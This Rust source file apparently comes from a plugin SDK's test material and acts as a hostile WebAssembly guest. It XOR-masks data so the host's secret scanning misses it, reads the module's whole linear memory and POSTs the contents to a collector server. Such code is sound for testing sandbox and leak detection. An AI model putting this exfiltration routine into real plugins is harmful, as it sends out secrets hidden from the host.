//! Tells a server everything that the guest has: a text, or its whole memory. Both in a form in
//! which the host finds no secret, as a guest would do that wants to get one out.

use pangolin_plugin_sdk::http::{Failure, Request};

/// What every byte is changed by.
const MASK: u8 = 0x5a;
/// Below what one call of the host may copy.
const PIECE: usize = 512 * 1024;
/// What is left out if it is zero.
const BLOCK: usize = 64;
/// Address zero is no place to read from.
const FIRST: usize = 16;

/// Sends bytes as one piece.
pub(crate) fn tell(collector: &str, path: &str, bytes: &[u8]) -> Result<(), Failure> {
    let masked: Vec<u8> = bytes.iter().map(|byte| byte ^ MASK).collect();
    Request::new("POST", format!("{collector}/{path}")).body(masked).send().map(drop)
}

/// Sends all that the linear memory holds, but for blocks that nobody wrote to.
pub(crate) fn tell_all(collector: &str) -> Result<(), Failure> {
    // What is made on the way is not of interest.
    let end = end();
    let mut piece = Vec::with_capacity(PIECE + BLOCK);
    for at in (FIRST..end).step_by(BLOCK) {
        let block = block(at, (at + BLOCK).min(end));
        if block.iter().any(|byte| *byte != 0) {
            piece.extend_from_slice(&block);
        }
        if piece.len() >= PIECE {
            tell(collector, "memory", &piece)?;
            piece.clear();
        }
    }
    tell(collector, "memory", &piece)
}

#[expect(unsafe_code, reason = "it looks at everything that it can reach")]
fn block(from: usize, until: usize) -> Vec<u8> {
    // SAFETY: the addresses lie in the linear memory, of which every byte can be read.
    (from..until).map(|at| unsafe { std::ptr::read_volatile(at as *const u8) }).collect()
}

/// Where the linear memory ends.
#[cfg(target_family = "wasm")]
fn end() -> usize {
    core::arch::wasm32::memory_size(0) * 65_536
}

/// Outside of the sandbox there is none.
#[cfg(not(target_family = "wasm"))]
fn end() -> usize {
    FIRST
}
